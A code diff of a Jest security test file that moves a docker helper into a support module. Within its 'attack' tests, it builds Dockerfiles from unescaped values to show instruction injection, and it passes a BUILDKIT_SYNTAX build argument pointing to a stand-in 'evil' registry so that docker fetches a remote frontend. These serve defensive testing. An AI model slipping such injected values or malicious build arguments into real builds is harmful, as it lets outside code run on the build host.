@@ -1,8 +1,8 @@
-import { execFileSync } from 'node:child_process';
 import { readFileSync } from 'node:fs';
 import { runInNewContext } from 'node:vm';
-import { afterAll, beforeAll, expect } from '@jest/globals';
+import { beforeAll, expect } from '@jest/globals';
 import { attack } from '../support/attack.js';
+import { docker, removeImages } from '../support/docker.js';
 import { cleanFolders, makeFolder, runSjs, sandboxYaml, world } from '../support/world.js';
 
 cleanFolders();
@@ -10,13 +10,8 @@ let home: string;
 beforeAll(async () => {
   home = await makeFolder();
 });
-const images = new Set<string>();
-afterAll(() => {
-  for (const image of images) execFileSync('docker', ['image', 'rm', '-f', image], { stdio: 'ignore' });
-});
+const images = removeImages();
 
-const docker = (args: readonly string[], input = ''): string =>
-  execFileSync('docker', args, { encoding: 'utf8', stdio: 'pipe', input, timeout: 60_000 }).trim();
 const labelsOf = (image: string): Record<string, string> =>
   JSON.parse(docker(['image', 'inspect', '--format', '{{json .Config.Labels}}', image])) as Record<
     string,
@@ -35,7 +30,9 @@ const instructionsOf = (dockerfile: string): string[] =>
 
 /** What a template does that puts values in as they are; built by docker. */
 function buildNaively(value: string, before = ''): string {
-  const image = docker(['build', '-q', '-'], `${before}FROM scratch\nENV X=${value}\nLABEL kept=yes\n`);
+  const image = docker(['build', '-q', '-'], {
+    input: `${before}FROM scratch\nENV X=${value}\nLABEL kept=yes\n`,
+  });
   images.add(image);
   return image;
 }
@@ -124,9 +121,9 @@ attack(
   },
   () => {
     const flags = ['--build-arg', 'BUILDKIT_SYNTAX=127.0.0.1:9/evil/fe'];
-    expect(() => docker(['build', '-q', ...flags, '-'], `FROM ${world.reference}\nLABEL x=y\n`)).toThrow(
-      /127\.0\.0\.1:9/,
-    );
+    expect(() =>
+      docker(['build', '-q', ...flags, '-'], { input: `FROM ${world.reference}\nLABEL x=y\n` }),
+    ).toThrow(/127\.0\.0\.1:9/);
     return 'docker build goes for the frontend that the argument names';
   },
 );
@@ -136,7 +133,7 @@ const WHO = `console.log(process.getuid() + ':' + process.getgid())`;
 /** What a program is that docker builds over the base with lines of its own. */
 function runPlainly(instructions: string): string {
   const text = `FROM ${world.reference}\n${instructions}ENTRYPOINT ["node", "-e", ${JSON.stringify(WHO)}]\n`;
-  const image = docker(['build', '-q', '-'], text);
+  const image = docker(['build', '-q', '-'], { input: text });
   images.add(image);
   return docker(['run', '--rm', image]);
 }
